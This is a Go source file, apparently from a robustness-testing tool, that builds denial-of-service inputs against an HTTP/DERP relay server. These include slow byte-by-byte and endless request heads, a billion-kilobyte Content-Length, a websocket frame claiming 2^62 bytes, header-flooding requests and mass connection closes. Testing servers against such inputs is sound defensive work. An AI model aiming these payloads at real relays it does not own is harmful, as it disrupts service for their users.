// Attacks on HTTP, and on what it is upgraded to before a login.

package main

import (
	"bytes"
	"encoding/binary"
	"strings"
	"time"
)

const (
	upgradeRequest   = "GET /derp HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: DERP\r\n\r\n"
	fastRequest      = "GET /derp HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: DERP\r\nDerp-Fast-Start: 1\r\n\r\n"
	websocketRequest = "GET /derp HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n" +
		"Sec-WebSocket-Protocol: derp\r\n\r\n"
	longBody    = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000000000\r\n\r\n"
	chunkedBody = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
	// claimedMessage is a masked binary message that is to have 2^62 bytes.
	claimedMessage = "\x82\xff\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"

	// mostHead is what a relay takes of a head, about.
	mostHead = 16 << 10
	recordOf = 1300 // bytes of plaintext
	slowness = 500 * time.Millisecond
)

// script is something to be sent byte by byte.
type script func() func() byte

// endless is a beginning, and one byte again and again.
func endless(begin string, again byte) func() byte {
	left := begin
	return func() byte {
		if left == "" {
			return again
		}
		one := left[0]
		left = left[1:]
		return one
	}
}

func endlessHead() func() byte { return endless("GET /derp HTTP/1.1\r\nHost: a\r\nX: ", 'a') }

// byteWise sends `before` bytes at once, and then one at a time: a TLS record, where there is TLS,
// and a segment each.
func byteWise(what script, before int) maker {
	return func(c *client) func([]byte) []byte {
		next := what()
		first := make([]byte, before)
		for i := range first {
			first[i] = next()
		}
		return func(buf []byte) []byte {
			if part := first[:min(len(first), maxPlaintext)]; len(part) > 0 {
				first = first[len(part):]
				return c.wrap(buf, part)
			}
			return c.wrap(buf, []byte{next()})
		}
	}
}

// slowly is byteWise with a pause before each.
func slowly(what script) maker {
	return func(c *client) func([]byte) []byte {
		next := byteWise(what, 0)(c)
		return func(buf []byte) []byte {
			time.Sleep(slowness)
			return next(buf)
		}
	}
}

// endlessly sends a beginning, and then the same again and again.
func endlessly(begin string, again []byte) maker {
	return func(c *client) func([]byte) []byte {
		left := begin
		return func(buf []byte) []byte {
			defer func() { left = "" }()
			return c.wrap(buf, append([]byte(left), again...))
		}
	}
}

// packed is as many of them as a segment takes.
func packed(one []byte) []byte { return bytes.Repeat(one, recordOf/len(one)) }

func full() []byte { return make([]byte, recordOf) }

// tinyHeaders is a request with as many headers as a head may have.
func tinyHeaders() []byte {
	request := "GET /generate_204 HTTP/1.1\r\nHost: a\r\n"
	return []byte(request + strings.Repeat("a:\r\n", (mostHead-len(request)-64)/4) + "\r\n")
}

func requests() []byte { return packed([]byte("GET /generate_204 HTTP/1.1\r\nHost: a\r\n\r\n")) }

// upgraded opens a connection that is to log in next.
func upgraded(a *attacker) (*client, error) { return a.upgrade(upgradeRequest) }

func websocketed(a *attacker) (*client, error) { return a.upgrade(websocketRequest) }

func (a *attacker) upgrade(request string) (*client, error) {
	c, err := shaken(a)
	if err != nil {
		return nil, err
	}
	_ = c.conn.SetDeadline(time.Now().Add(loginTimeout))
	if err := c.upgradeWith(request); err != nil {
		c.conn.Close()
		return nil, err
	}
	_ = c.conn.SetDeadline(time.Time{})
	return c, nil
}

// message is a masked websocket frame; 0x80 in its first byte ends a message.
func message(first byte, length int) []byte {
	frame := binary.BigEndian.AppendUint32([]byte{first, 0x80 | byte(length)}, maskWord)
	return append(frame, make([]byte, length)...)
}

// closes ends all connections in one moment.
func closes(open opener) attack {
	return func(a *attacker) (func(), error) {
		connections := a.openAll(open)
		return func() {
			for _, c := range connections {
				if c != nil {
					c.conn.Close()
				}
			}
		}, nil
	}
}
